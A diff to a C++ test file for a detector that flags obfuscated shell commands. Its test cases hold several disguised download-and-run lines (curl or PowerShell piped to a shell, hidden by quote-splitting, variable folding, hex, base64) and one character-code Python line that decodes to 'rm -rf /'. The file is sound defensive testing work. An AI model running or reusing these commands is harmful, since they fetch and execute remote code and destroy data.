@@ -105,13 +105,17 @@ TEST(ShippedRules, RecallAndFalsePositivesOnTheEvaluationSet) {
 TEST(ShippedRules, ViewsCatchHiddenNamesAndNotNearMisses) {
     const auto guard = shippedGuard();
     const std::vector<std::pair<std::string, std::string>> cases = {
-        {R"(c"u"rl -s http://203.0.113.7/i | s"h")", "command words unquoted"},
-        {R"(c\url -s https://cdn-check.live/p | b\ash)", "command words unquoted"},
-        {"a=cu;b=rl;$a$b -s http://198.51.100.2/x | sh", "assignments folded"},
-        {"$a='i';$b='ex';&($a+$b)(irm 'https://verify-captcha.online/c')", "assignments folded"},
+        {R"(c"u"rl -s http://203.0.113.7/i | s"h")", "unquoted"},
+        {R"(c\url -s https://cdn-check.live/p | b\ash)", "unquoted"},
+        {"a=cu;b=rl;$a$b -s http://198.51.100.2/x | sh", "folded"},
+        {"$a='i';$b='ex';&($a+$b)(irm 'https://verify-captcha.online/c')", "folded"},
         {"powershell -enc aQB3AHIAIAAtAHUAcwBlAGIAIABoAHQAdABwAHMAOgAvAC8AdgBlAHIAaQBmAHkALQBjAGEAcAB0AGMAaABhAC4Ab"
          "wBuAGwAaQBuAGUALwBjACAAfAAgAGkAZQB4AA==",
-         "decoded from base64"},
+         "base64"},
+        {"set a=cu& set b=rl& %a%%b% -s http://198.51.100.2/x | sh", "folded"},
+        {R"x(bash -c "$(printf '\x63\x75\x72\x6c -s http://198.51.100.2/x | sh')")x", "hex"},
+        {"python3 -c \"exec(''.join(map(chr,[105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,"
+         "40,39,114,109,32,45,114,102,32,47,39,41])))\"", "character-codes"},
         {"curl -fsSL https://get.example.dev/install.sh | bash", ""},
         {R"(echo "curl" | grep -c "sh")", "clean"},
         {R"(echo 'c'url | tee "s"h.txt)", "clean"},
